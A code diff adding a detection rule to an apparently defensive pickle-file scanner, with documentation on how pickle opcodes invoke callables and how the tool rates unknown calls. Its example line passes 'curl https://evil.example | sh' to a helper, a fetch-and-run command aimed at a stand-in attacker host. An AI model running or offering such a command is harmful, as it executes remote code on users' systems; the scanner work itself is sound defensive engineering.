@@ -54,6 +54,35 @@ Check that each reported global comes from code you trust and install. The defau
 "#,
 };
 
+/// A global on neither list, called with arguments from the file.
+pub static UNKNOWN_CALL: Rule = Rule {
+    id: "pickle-unknown-call",
+    severity: Severity::High,
+    summary: "A pickle calls a global that nothing known says is safe, with arguments taken from the file.",
+    docs: r#"
+## Why it matters
+`REDUCE`, `INST`, `OBJ` and `NEWOBJ` call what the stream names with arguments the stream
+supplies, and so do helpers that call what they are given (`copyreg.__newobj__(cls, *args)`,
+`torch._tensor._rebuild_from_type_v2(func, cls, args, state)`). A denylist can never be
+complete: the standard library and every installed package hold callables that evaluate strings,
+write files, open URLs or load another pickle under names nobody listed. modelvet therefore
+judges a call by what is known of its target, after resolving the name the way Python's
+`find_class` does (`shutil.os.system` is `os.system`, `io.open` is `_io.open`): a callable on the
+allowlist is safe, a known sink is `pickle-dangerous-global` (critical for code execution), and
+any other callable that receives the file's arguments is this finding, which fails the default
+gate. A class that is only instantiated, with nothing passed to it, and then given state by
+`BUILD` is `pickle-unknown-global` (medium) instead: that is how every custom model class is
+pickled.
+
+## Example
+`mylib.helpers.run_pipeline('curl https://evil.example | sh')`
+
+## What to do
+Find out what the callable does with its arguments before loading the file; if it comes from
+your own code, add it to an allowlist policy. Otherwise treat the file as hostile.
+"#,
+};
+
 /// State planted on modules or classes, calls on call results.
 pub static GADGET: Rule = Rule {
     id: "pickle-gadget",
